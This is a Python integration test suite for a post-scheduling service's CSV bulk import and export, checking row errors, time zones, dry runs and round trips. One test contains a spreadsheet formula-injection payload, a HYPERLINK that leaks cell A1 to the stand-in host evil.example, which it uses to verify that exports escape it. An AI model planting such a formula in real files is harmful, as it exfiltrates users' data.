"""Bulk import and export of posts through the real API and database.

Rows are checked by the post service's own rules, so the errors asserted here are the ones a single
POST /posts would give, reported per row and pointed at the column to fix.
"""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any
from uuid import UUID
from zoneinfo import ZoneInfo

import httpx
import pytest
from PIL import Image

from shared.services import posts as posts_service
from shared.services import publishing
from shared.services.post_csv import MAX_FILE_BYTES, MAX_ROWS
from tests.integration.test_posts import add_member, set_approval
from tests.integration.test_publishing import World, world  # noqa: F401 - the fixture

HEADER = ["scheduled_at", "timezone", "text", "accounts"]


def csv_bytes(rows: list[list[str]], header: list[str] = HEADER, *, bom: bool = False) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([header, *rows])
    return ("\ufeff" if bom else "").encode() + buffer.getvalue().encode()


def at(days: float, hour: int = 9) -> datetime:
    """A time comfortably in the future, on the hour, in UTC."""
    return (datetime.now(UTC) + timedelta(days=days)).replace(hour=hour, minute=0, second=0, microsecond=0)


def spring_gap(zone: str = "Europe/Paris") -> datetime:
    """02:30 on the next day the clocks skip 02:00-03:00 in `zone` (a local time that never happens)."""
    day = date.today() + timedelta(days=1)
    while True:
        local = datetime(day.year, day.month, day.day, 2, 30, tzinfo=ZoneInfo(zone))
        if local.astimezone(UTC).astimezone(ZoneInfo(zone)).hour != 2:
            return local.replace(tzinfo=None)
        day += timedelta(days=1)


async def upload(world: World, data: bytes, **params: Any) -> httpx.Response:
    return await world.api.post(
        f"/api/v1/workspaces/{world.workspace}/posts/import",
        headers=world.headers,
        params={k: str(v).lower() if isinstance(v, bool) else v for k, v in params.items()},
        files={"file": ("posts.csv", data, "text/csv")},
    )


async def imported(world: World, data: bytes, **params: Any) -> dict[str, Any]:
    response = await upload(world, data, **params)
    assert response.status_code == 200, response.text
    return response.json()  # type: ignore[no-any-return]


async def export(world: World, **params: str) -> httpx.Response:
    return await world.api.get(
        f"/api/v1/workspaces/{world.workspace}/posts/export", headers=world.headers, params=params
    )


async def post_count(world: World) -> int:
    pool = await world.container.db()
    async with pool.connection() as conn:
        cursor = await conn.execute("SELECT count(*) FROM posts WHERE workspace_id = %s", (world.workspace,))
        row = await cursor.fetchone()
    assert row is not None
    return int(row[0])


async def feed_handle(world: World) -> str:
    response = await world.api.get(f"/api/v1/workspaces/{world.workspace}/accounts", headers=world.headers)
    [feed] = [a for a in response.json()["items"] if a["platform"] == "feed"]
    return f"feed:@{feed['handle']}"


async def upload_image(world: World) -> str:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 120, 200)).save(buffer, format="PNG")
    response = await world.api.post(
        f"/api/v1/workspaces/{world.workspace}/media",
        headers=world.headers,
        files={"file": ("pic.png", buffer.getvalue(), "image/png")},
    )
    assert response.status_code in (200, 201), response.text
    return str(response.json()["id"])


def errors_by_row(report: dict[str, Any]) -> dict[int, list[tuple[str, str | None]]]:
    return {r["row"]: [(e["code"], e["field"]) for e in r["errors"]] for r in report["rows"] if r["errors"]}


async def test_good_rows_create_posts_scheduled_at_the_right_instant(world: World) -> None:
    account = await world.connect()
    feed = await feed_handle(world)
    first, second = at(3), at(4)
    report = await imported(
        world,
        csv_bytes(
            [
                [first.isoformat(), "", "to two accounts", f"sandbox:@{account['handle'].upper()} | {feed}"],
                [second.replace(tzinfo=None).isoformat(), "America/New_York", "local time", account["id"]],
                ["", "", "an idea for later", account["id"]],
            ]
        ),
    )
    assert (report["created"], report["errors"], report["mode"], report["dry_run"]) == (
        3,
        0,
        "all_or_nothing",
        False,
    )
    assert [(r["row"], r["status"], r["post_status"]) for r in report["rows"]] == [
        (2, "created", "scheduled"),
        (3, "created", "scheduled"),
        (4, "created", "draft"),
    ]
    one, two, three = [await world.get_post(r["post_id"]) for r in report["rows"]]
    assert datetime.fromisoformat(one["scheduled_at"]) == first
    assert {t["platform"] for t in one["targets"]} == {"sandbox", "feed"}
    assert all(t["status"] == "scheduled" for t in one["targets"])
    # 09:00 in New York, whatever the offset is that day.
    expected = second.replace(tzinfo=None).replace(tzinfo=ZoneInfo("America/New_York"))
    assert datetime.fromisoformat(two["scheduled_at"]) == expected
    assert two["timezone"] == "America/New_York"
    assert [t["account_id"] for t in two["targets"]] == [account["id"]]
    assert (three["status"], three["scheduled_at"], three["text"]) == ("draft", None, "an idea for later")


def bad_file(account: dict[str, Any], good_time: datetime) -> bytes:
    gap = spring_gap()
    return csv_bytes(
        [
            [good_time.isoformat(), "", "fine", account["id"]],
            [good_time.isoformat(), "", "who?", "sandbox:@nobody_here"],
            [good_time.isoformat(), "", "x" * 5001, account["id"]],
            [good_time.replace(tzinfo=None).isoformat(), "Europe/Pariss", "typo zone", account["id"]],
            [gap.isoformat(), "Europe/Paris", "in the gap", account["id"]],
            [(datetime.now(UTC) - timedelta(hours=2)).isoformat(), "", "too late", account["id"]],
            [good_time.isoformat(), "", "also fine", f"sandbox:@{account['handle']}"],
        ]
    )


async def test_bad_rows_get_precise_errors_and_all_or_nothing_creates_nothing(world: World) -> None:
    account = await world.connect()
    before = await post_count(world)
    report = await imported(world, bad_file(account, at(2)))
    assert report["created"] == 0
    assert report["errors"] == 5
    assert errors_by_row(report) == {
        3: [("account_not_found", "accounts")],
        4: [("text_too_long", "text")],
        5: [("invalid_timezone", "timezone")],
        6: [("nonexistent_local_time", "scheduled_at")],
        7: [("scheduled_in_past", "scheduled_at")],
    }
    assert [r["status"] for r in report["rows"]] == ["valid"] + ["error"] * 5 + ["valid"]
    messages = {r["row"]: r["errors"][0]["message"] for r in report["rows"] if r["errors"]}
    assert "sandbox:@nobody_here" in messages[3]
    assert messages[4].startswith(f"sandbox:@{account['handle']}: ")
    assert "5000" in messages[4]
    assert "Europe/Paris" in messages[6]
    assert await post_count(world) == before


async def test_best_effort_creates_the_good_rows(world: World) -> None:
    account = await world.connect()
    before = await post_count(world)
    report = await imported(world, bad_file(account, at(2)), mode="best_effort")
    assert (report["created"], report["errors"]) == (2, 5)
    created = [r for r in report["rows"] if r["status"] == "created"]
    assert [r["row"] for r in created] == [2, 8]
    assert [(await world.get_post(r["post_id"]))["text"] for r in created] == ["fine", "also fine"]
    assert await post_count(world) == before + 2


async def test_dry_run_checks_everything_and_creates_nothing(world: World) -> None:
    account = await world.connect()
    before = await post_count(world)
    good = csv_bytes([[at(2).isoformat(), "", f"row {n}", account["id"]] for n in range(3)])
    report = await imported(world, good, dry_run=True)
    assert report["dry_run"] is True
    assert [r["status"] for r in report["rows"]] == ["valid"] * 3
    assert all(r["post_id"] is None for r in report["rows"])
    assert report["created"] == 0
    bad = await imported(world, bad_file(account, at(2)), dry_run=True, mode="best_effort")
    assert bad["errors"] == 5
    assert await post_count(world) == before


async def test_a_utf8_file_with_bom_is_accepted(world: World) -> None:
    account = await world.connect()
    report = await imported(
        world, csv_bytes([[at(2).isoformat(), "", "Café ☕ — ünïcode", account["id"]]], bom=True)
    )
    [row] = report["rows"]
    assert row["status"] == "created", row
    assert (await world.get_post(row["post_id"]))["text"] == "Café ☕ — ünïcode"


async def test_more_than_max_rows_is_refused_as_a_whole(world: World) -> None:
    account = await world.connect()
    before = await post_count(world)
    rows = [[at(2).isoformat(), "", f"n{n}", account["id"]] for n in range(MAX_ROWS + 1)]
    response = await upload(world, csv_bytes(rows), mode="best_effort")
    assert response.status_code == 422
    assert response.json()["error"]["code"] == "too_many_rows"
    assert await post_count(world) == before


@pytest.mark.parametrize(
    ("kind", "status", "code"),
    [
        ("too_big", 413, "payload_too_large"),
        ("json", 415, "unsupported_media_type"),
        ("no_file", 422, "file_missing"),
        ("latin1", 422, "invalid_encoding"),
        ("no_accounts_column", 422, "missing_column"),
    ],
)
async def test_unreadable_uploads_are_refused(world: World, kind: str, status: int, code: str) -> None:
    url = f"/api/v1/workspaces/{world.workspace}/posts/import"
    if kind == "too_big":
        response = await upload(world, b"scheduled_at,text,accounts\n" + b"x" * MAX_FILE_BYTES)
    elif kind == "json":
        response = await world.api.post(url, headers=world.headers, json={"file": "scheduled_at"})
    elif kind == "no_file":
        response = await world.api.post(url, headers=world.headers, files={"other": ("a.csv", b"x")})
    elif kind == "latin1":
        response = await upload(world, "scheduled_at,text,accounts\n,café,x\n".encode("latin-1"))
    else:
        response = await upload(world, b"scheduled_at,text\n2030-01-01T10:00Z,hi\n")
    assert response.status_code == status, response.text
    assert response.json()["error"]["code"] == code


async def test_media_must_be_in_the_library_and_urls_are_refused(world: World) -> None:
    account = await world.connect()
    media_id = await upload_image(world)
    header = [*HEADER, "media_ids", "media_url"]
    when = at(2).isoformat()
    report = await imported(
        world,
        csv_bytes(
            [
                [when, "", "with media", account["id"], media_id, ""],
                [when, "", "unknown media", account["id"], str(UUID(int=7)), ""],
                [when, "", "by url", account["id"], "", "https://example.com/cat.png"],
            ],
            header,
        ),
        mode="best_effort",
    )
    assert [r["status"] for r in report["rows"]] == ["created", "error", "error"]
    assert errors_by_row(report) == {
        3: [("media_not_found", "media_ids")],
        4: [("media_url_not_supported", "media_url")],
    }
    assert (await world.get_post(report["rows"][0]["post_id"]))["media"] == [media_id]


async def test_contributor_rows_wait_for_approval(world: World) -> None:
    await set_approval(world, True)
    account = await world.connect()
    contributor = await add_member(world, "contributor")
    response = await world.api.post(
        f"/api/v1/workspaces/{world.workspace}/posts/import",
        headers=contributor,
        files={
            "file": ("p.csv", csv_bytes([[at(2).isoformat(), "", "check me", account["id"]]]), "text/csv")
        },
    )
    assert response.status_code == 200, response.text
    [row] = response.json()["rows"]
    assert (row["status"], row["post_status"]) == ("created", "pending_approval")


async def test_a_row_failing_while_saving_stops_all_or_nothing_and_says_what_was_created(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A real race: the second row's account is disconnected after validation, before its save."""
    steady, flaky = await world.connect(), await world.connect()
    real_create = posts_service.create_post
    calls = 0

    async def disconnect_then_create(*args: Any, **kwargs: Any) -> posts_service.PostView:
        nonlocal calls
        calls += 1
        if calls == 2:
            pool = await world.container.db()
            async with pool.connection() as conn:
                await conn.execute(
                    "UPDATE social_accounts SET status = 'needs_reauth' WHERE id = %s", (flaky["id"],)
                )
        return await real_create(*args, **kwargs)

    monkeypatch.setattr(posts_service, "create_post", disconnect_then_create)
    rows = [
        [at(2).isoformat(), "", "one", steady["id"]],
        [at(2).isoformat(), "", "two", flaky["id"]],
        [at(2).isoformat(), "", "three", steady["id"]],
    ]
    report = await imported(world, csv_bytes(rows))
    assert [r["status"] for r in report["rows"]] == ["created", "error", "error"]
    assert errors_by_row(report) == {3: [("account_needs_reauth", "accounts")], 4: [("not_created", None)]}
    assert "row 3" in report["rows"][2]["errors"][0]["message"]
    assert report["created"] == 1
    assert await post_count(world) == 1


async def test_export_then_import_round_trips(world: World) -> None:
    account = await world.connect()
    feed = await feed_handle(world)
    media_id = await upload_image(world)
    texts = ['Hello, "world"\nsecond line 🎉', "=1+1 is two", "- a list item", "@someone look", "plain"]
    header = [*HEADER, "media_ids"]
    source = await imported(
        world,
        csv_bytes(
            [
                [
                    at(3 + n).replace(tzinfo=None).isoformat(),
                    "Europe/Paris",
                    text,
                    f"{account['id']}|{feed}",
                    "",
                ]
                for n, text in enumerate(texts)
            ]
            + [
                [at(9).isoformat(), "", "with a picture", account["id"], media_id],
                [at(10).isoformat(), "", "still a draft", account["id"], ""],
            ],
            header,
        ),
    )
    assert source["created"] == len(texts) + 2
    draft_id = source["rows"][-1]["post_id"]
    # A draft with a time: only `status` says it is a draft, and import must keep it one.
    pool = await world.container.db()
    async with pool.connection() as conn:
        await conn.execute("UPDATE post_targets SET status = 'draft' WHERE post_id = %s", (draft_id,))
        await conn.execute("UPDATE posts SET status = 'draft' WHERE id = %s", (draft_id,))

    response = await export(world)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="posts-{datetime.now(UTC).date().isoformat()}.csv"'
    )
    exported = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert list(exported[0]) == [
        "id",
        "status",
        "scheduled_at",
        "timezone",
        "text",
        "accounts",
        "media_ids",
        "published_urls",
    ]
    assert [r["id"] for r in exported] == [r["post_id"] for r in source["rows"]]
    # Targets are listed as the API lists them: by platform, then handle.
    assert exported[0]["accounts"] == f"{feed}|sandbox:@{account['handle']}"
    assert exported[0]["scheduled_at"].endswith(("+01:00", "+02:00"))  # Paris wall time, with offset
    assert exported[-1]["status"] == "draft"

    again = await imported(world, response.content)
    assert again["created"] == len(source["rows"]), again
    for old_row, new_row in zip(source["rows"], again["rows"], strict=True):
        old, new = await world.get_post(old_row["post_id"]), await world.get_post(new_row["post_id"])
        assert new["id"] != old["id"]
        for key in ("text", "scheduled_at", "timezone", "media", "status"):
            assert new[key] == old[key], key
        assert sorted(t["account_id"] for t in new["targets"]) == sorted(
            t["account_id"] for t in old["targets"]
        )


async def test_export_escapes_cells_a_spreadsheet_would_run(world: World) -> None:
    account = await world.connect()
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    for text in (formula, "+SUM(1)", "-2+3", "@SUM(A1)", "safe = fine"):
        await world.post([account["id"]], text=text, scheduled_at=at(2).isoformat())
    body = (await export(world)).content.decode()
    assert "\n=" not in body
    assert ",=" not in body
    texts = [r["text"] for r in csv.DictReader(io.StringIO(body))]
    assert texts == [f"'{formula}", "'+SUM(1)", "'-2+3", "'@SUM(A1)", "safe = fine"]


async def test_export_filters_by_time_and_status(world: World) -> None:
    account = await world.connect()
    early, middle, late = at(2), at(5), at(8)
    for when in (early, middle, late):
        await world.post([account["id"]], text=f"at {when.isoformat()}", scheduled_at=when.isoformat())
    await world.post([account["id"]], text="idea", draft=True)

    window = await export(
        world, **{"from": (middle - timedelta(hours=1)).isoformat(), "to": late.isoformat()}
    )
    assert [r["text"] for r in csv.DictReader(io.StringIO(window.text))] == [f"at {middle.isoformat()}"]
    drafts = await export(world, status="draft")
    assert [r["text"] for r in csv.DictReader(io.StringIO(drafts.text))] == ["idea"]
    everything = await export(world)
    assert len(list(csv.DictReader(io.StringIO(everything.text)))) == 4
    for params, code in (
        ({"status": "nonsense"}, "invalid_status"),
        ({"from": "2030-01-01T00:00:00"}, "timezone_required"),
    ):
        refused = await export(world, **params)
        assert refused.status_code == 422
        assert refused.json()["error"]["code"] == code


async def test_published_posts_export_their_urls_and_are_not_imported_twice(world: World) -> None:
    account = await world.connect()
    post = await world.post([account["id"]], text="went out", publish_now=True)
    [target_id] = await world.messages()
    assert await publishing.publish_target(world.container, target_id) == "published"
    url = (await world.get_post(post["id"]))["targets"][0]["external_url"]
    response = await export(world, status="published")
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert (row["id"], row["status"], row["published_urls"]) == (post["id"], "published", url)
    report = await imported(world, response.content, mode="best_effort")
    assert report["created"] == 0
    assert ("status_not_importable", "status") in errors_by_row(report)[2]


async def test_export_is_not_taken_for_a_post_id(world: World) -> None:
    """The CSV router is registered before /posts/{post_id}, which would answer 422 here."""
    response = await export(world)
    assert response.status_code == 200
    assert response.text.splitlines() == [
        "id,status,scheduled_at,timezone,text,accounts,media_ids,published_urls"
    ]
